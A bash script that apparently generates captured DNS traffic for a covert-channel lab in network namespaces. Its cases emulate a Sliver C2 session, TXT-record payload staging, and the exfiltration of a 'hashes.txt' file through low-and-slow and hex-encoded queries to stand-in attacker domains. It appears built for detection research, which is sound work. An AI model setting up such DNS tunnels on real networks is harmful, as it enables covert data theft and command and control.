#!/bin/bash
# Own and emulated channels: dns-emulate.sh CASE...   Server side: dns-server.py in ld-inet. CAPS, MAPS=folders.
R=${R:-$(dirname "$0")}; . "$R/dns-run.sh"; MAPS=${MAPS:-$CAPS}
# emu ID NAMESPACE SOURCE RESOLVER PLACE SPEED START EXPR...   PLACE: ws, lan, fwd, wan, any, ws+wan
emu() { local id=$1 ns=$2 src=$3 res=$4 place=$5 speed=$6 start=$(date -u -d "$7" +%s); shift 7
  case $place in ws|ws+wan) cap $id $ns eth0 "port 53 and host $src";; esac
  case $place in lan) cap $id ld-res eth0 "port 53 and host $src";; fwd) cap $id ld-fwd eth0 'port 53';; any) cap $id ld-res any 'port 53';; wan) cap $id ld-res wan 'port 53';; ws+wan) cap $id-wan ld-res wan 'port 53';; esac
  ip netns exec $ns python3 $R/dns-client.py $src $res $start $speed $MAPS/$id.json "$@"
  for x in $id $( [ $place = ws+wan ] && echo $id-wan ); do uncap $x
    if [ $speed != 1 ]; then python3 $R/dns-retime.py $CAPS/$x.pcap $CAPS/$x.tmp $MAPS/$id.json && mv $CAPS/$x.tmp $CAPS/$x.pcap; fi; done; }
U=10.40.1.53; F=10.40.1.10
for c in "$@"; do case $c in
  sliver-session) emu $c ld-ws6 10.40.1.26 $U ws 0 '2026-11-18 11:00' "sliver('sl.pochard-agent.com')";;
  slow-sender) emu $c ld-ws7 10.40.1.27 $U ws 0 '2026-11-18 06:00' "lowslow('s.dotterel-updates.net','hashes.txt',0.1,12,(1,28),5,14,'b32')";;
  txt-staging) emu $c ld-ws3 10.40.1.23 $U ws 0 '2026-11-19 12:00' "staging('st.merlin-pkg.org',119)";;
  oneliner-hex) emu $c ld-ws2 10.40.1.22 $U ws 0 '2026-11-20 08:00' "oneliner('x.goldcrest.duckdns.org','hashes.txt')";;
  *) echo unknown $c;; esac; done
